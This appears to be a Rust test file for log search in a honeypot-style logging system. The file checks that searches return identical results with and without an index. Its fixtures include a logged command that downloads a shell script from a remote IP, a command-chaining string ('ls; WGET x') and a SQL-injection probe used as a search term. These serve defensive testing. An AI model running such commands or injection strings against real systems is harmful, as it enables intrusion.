use decnet_db::{Store, search::WINDOW};
use decnet_model::query::LogQuery;

use crate::{
    Database,
    lines::{command, line, login, store},
};

async fn found(db: &Store, search: &str) -> Vec<i64> {
    let mut query = LogQuery {
        limit: Some(2),
        search: Some(search.into()),
        ..LogQuery::default()
    };
    let mut ids = Vec::new();
    loop {
        let page = db.log_page(&query).await.unwrap();
        ids.extend(page.data.iter().map(|l| l.id.0));
        query.before = page.next;
        if query.before.is_none() {
            return ids;
        }
    }
}

pub(crate) async fn a_search_finds_the_same_with_and_without_the_index(database: &Database) {
    let db = &database.store;
    let lines = [
        command(1, "web-01", "192.0.2.1", "wget http://198.51.100.9/x.sh"),
        command(2, "web-01", "192.0.2.2", r"type C:\Users\bob"),
        login(3, "db-01", "192.0.2.1", "Root", "100%_!"),
        login(4, "db-01", "2001:db8::7", "root", "\u{1F980}krabbe"),
        line(
            5,
            "mail-01",
            "smtp",
            "mail_accepted",
            &[("src_ip", "192.0.2.3"), ("subject", "a \"quoted\" ] word")],
            "free text",
        ),
        command(6, "web-02", "192.0.2.1", "ls; WGET x"),
    ];
    store(db, &lines).await;
    let cases: &[(&str, &[i64])] = &[
        ("wget", &[6, 1]),
        ("wget http", &[1]),
        ("http://198.51.100.9/x.sh", &[1]),
        (r"C:\Users\bob", &[2]),
        ("100%_!", &[3]),
        ("%", &[3]),
        ("ro", &[4, 3]),
        ("root", &[4, 3]),
        ("principal:root", &[4, 3]),
        ("principal:roo service:ssh decky:db-01", &[4, 3]),
        ("principal:wget", &[]),
        ("\u{1F980}kr", &[4]),
        ("192.0.2.1", &[6, 3, 1]),
        ("ip:192.0.2.1", &[6, 3, 1]),
        ("ip:192.0.2.1 wget", &[6, 1]),
        ("2001:db8::7", &[4]),
        ("\"free text\"", &[5]),
        ("a \"quoted", &[5]),
        ("\"text free\"", &[]),
        ("db-01", &[4, 3]),
        ("' OR 1=1 --", &[]),
        ("nothing-like-it", &[]),
    ];
    // First nothing is indexed, then half, then all.
    for indexed in [0, 3, 6] {
        while db.search_index(3).await.unwrap() > 0 && indexed == 6 {}
        for (search, expected) in cases {
            let got = found(db, search).await;
            assert_eq!(got.as_slice(), *expected, "{search:?} after {indexed}");
        }
    }
    let long = LogQuery {
        search: Some("x".repeat(513)),
        ..LogQuery::default()
    };
    assert!(db.log_page(&long).await.unwrap_err().is_bad_query());
}

pub(crate) async fn a_search_without_matches_ends(database: &Database) {
    let db = &database.store;
    store(db, &[command(1, "web-01", "192.0.2.1", "id")]).await;
    // Ids far apart, as after a retention: windows without rows are passed, and the last one ends the list.
    let far = "INSERT INTO logs (id, at, received_at, decky, service, event_type, attacker_id, fields, message, raw) \
               SELECT id + 200000, at, received_at, decky, service, event_type, attacker_id, fields, message, raw \
               FROM logs WHERE id = 1";
    const { assert!(WINDOW < 200_000) };
    database.raw(&[far]).await.unwrap();
    assert_eq!(found(db, "zz").await, Vec::<i64>::new());
    assert_eq!(found(db, "id").await, [200_001, 1]);
}
